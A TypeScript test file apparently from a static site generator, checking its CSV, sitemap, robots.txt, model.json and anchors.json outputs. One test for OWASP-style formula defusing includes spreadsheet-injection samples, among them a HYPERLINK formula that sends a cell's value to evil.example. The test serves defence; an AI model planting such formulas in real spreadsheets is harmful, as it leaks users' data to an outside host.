import { describe, expect, test } from 'vitest';
import { csvField, csvLine, defuseFormula } from '../../src/shared/csv-fields.js';
import { siteFixture } from '../fixtures/site-fixture.js';
import { parseManifest } from '../../src/links/manifest-format.js';
import { renderFiles } from './helpers.js';
import { modelJson } from '../../src/render/outputs/model-json.js';
import { TextPieces } from '../../src/render/page.js';

describe('responsibilities.csv', () => {
  test('quotes fields per RFC 4180', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvLine(['a', 'b,c'])).toBe('a,"b,c"\r\n');
  });

  test('defuses spreadsheet formulas with a leading quote (OWASP)', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(defuseFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(defuseFormula('plain = text')).toBe('plain = text');
    expect(defuseFormula('')).toBe('');
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('\r=cmd')).toBe('"\'\r=cmd"');
    expect(csvLine(['@SUM(A1)', 'ok'])).toBe("'@SUM(A1),ok\r\n");
  });

  test('one line per row with the row URL under the base', () => {
    const csv = renderFiles(siteFixture(), '/sub/').get('responsibilities.csv') ?? '';
    const lines = csv.split('\r\n').filter(Boolean);
    const rows = siteFixture().offerings.flatMap((o) => o.sections.flatMap((s) => s.rows));
    expect(lines).toHaveLength(rows.length + 1);
    // The customer's column says "Your", not "You responsibilities".
    expect(lines[0]).toBe('offering,area,task,IBM label,task id,IBM responsibilities,Your responsibilities,url');
    expect(csv).toContain('Key Protect Dedicated,Disaster recovery,Backups,Backups,backups,Back up keys daily.,,/sub/offerings/key-protect-dedicated/#disaster-recovery--backups\r\n');
    expect(csv).toContain(',Back up of instance configuration & <secrets>,');
    expect(csv).toContain('"Conduct backups, see docs."');
  });

  test('uses absolute URLs when the site has a baseUrl', () => {
    const csv = renderFiles({ ...siteFixture(), baseUrl: 'https://example.org' }, '/').get('responsibilities.csv') ?? '';
    expect(csv).toContain(',https://example.org/offerings/secrets-manager/#disaster-recovery--backups\r\n');
  });
});

describe('sitemap.xml and robots.txt', () => {
  test('list every page but 404, relative without a baseUrl', () => {
    const files = renderFiles(siteFixture(), '/sub/');
    const sitemap = files.get('sitemap.xml') ?? '';
    expect(sitemap).toContain('<loc>/sub/offerings/key-protect-dedicated/</loc>');
    expect(sitemap).toContain('<loc>/sub/</loc>');
    expect(sitemap).not.toContain('404');
    expect(files.get('robots.txt')).toBe('User-agent: *\nAllow: /\nSitemap: /sub/sitemap.xml\n');
  });

  test('absolute with a baseUrl', () => {
    const files = renderFiles({ ...siteFixture(), baseUrl: 'https://example.org/' }, '/');
    expect(files.get('sitemap.xml')).toContain('<loc>https://example.org/areas/disaster-recovery/</loc>');
    expect(files.get('robots.txt')).toContain('Sitemap: https://example.org/sitemap.xml');
  });
});

describe('model.json and anchors.json', () => {
  test('model.json is the model', () => {
    expect(JSON.parse(renderFiles().get('model.json') ?? '')).toEqual(siteFixture());
  });

  test("model.json, made an offering at a time, is JSON.stringify's text of the model", () => {
    const site = siteFixture();
    const text = (s: typeof site): string => String(modelJson(s)[0]?.contents);
    expect(text(site)).toBe(JSON.stringify(site) + '\n');
    // Properties without JSON are left out wherever they stand; no offering still makes a list.
    const odd = { ...site, description: undefined, offerings: [], zLast: 'x' } as unknown as typeof site;
    expect(text(odd)).toBe(JSON.stringify(odd) + '\n');
    const contents = modelJson(site)[0]?.contents;
    expect(contents).toBeInstanceOf(TextPieces);
    // Each offering is a piece of its own: the whole text is never made.
    const pieces = [...(contents as TextPieces).pieces()];
    for (const offering of site.offerings) expect(pieces).toContain(JSON.stringify(offering));
  });

  test('model.json takes the offerings whose JSON is known from the last one, and says where each offering is', () => {
    const site = siteFixture();
    const [first, second] = site.offerings;
    // Bytes, not characters: the offerings after this one start where their UTF-8 does.
    second!.name = 'Schlüssel – Dedicated ✓';
    // A rebuild's unchanged offering: its bytes in the last model.json, which the writer reads.
    const last = Buffer.from(`[...]${JSON.stringify(first)}`);
    const known = { previous: [5, last.length] as const };
    const placed: [string, number, number, string | undefined][] = [];
    const contents = modelJson(site, {
      offeringJson: {
        known: (offering) => (offering === first ? known : undefined),
        placed: (offering, start, end, text) => void placed.push([offering.id, start, end, text]),
      },
    })[0]?.contents as TextPieces;
    expect([...contents.pieces()]).toContainEqual(known);
    expect(() => String(contents)).toThrow(/only written/);
    placed.length = 0;
    const bytes = Buffer.concat([...contents.pieces()].map((piece) => (typeof piece === 'string' ? Buffer.from(piece) : piece instanceof Uint8Array ? piece : last.subarray(...piece.previous))));
    expect(bytes.toString()).toBe(JSON.stringify(site) + '\n');
    expect(placed.map(([id]) => id)).toEqual(site.offerings.map((o) => o.id));
    for (const [id, start, end, text] of placed) {
      const offering = site.offerings.find((o) => o.id === id)!;
      expect(bytes.subarray(start, end).toString()).toBe(JSON.stringify(offering));
      // The text is handed back only when it was made here.
      expect(text).toBe(offering === first ? undefined : JSON.stringify(offering));
    }
  });

  test('anchors.json lists every page and the fragments on it, sorted', () => {
    const anchors = parseManifest(renderFiles().get('anchors.json') ?? '', 'anchors.json');
    const urls = Object.keys(anchors.pages);
    expect(urls).toEqual([...urls].sort());
    expect(urls).toContain('offerings/key-protect-dedicated/');
    const fragments = [...(anchors.pages['offerings/key-protect-dedicated/']?.fragments.keys() ?? [])];
    expect(fragments).toEqual([...fragments].sort());
    for (const id of ['disaster-recovery', 'disaster-recovery-hpcs', 'disaster-recovery-dedicated', 'disaster-recovery--backups']) {
      expect(fragments).toContain(id);
    }
  });
});
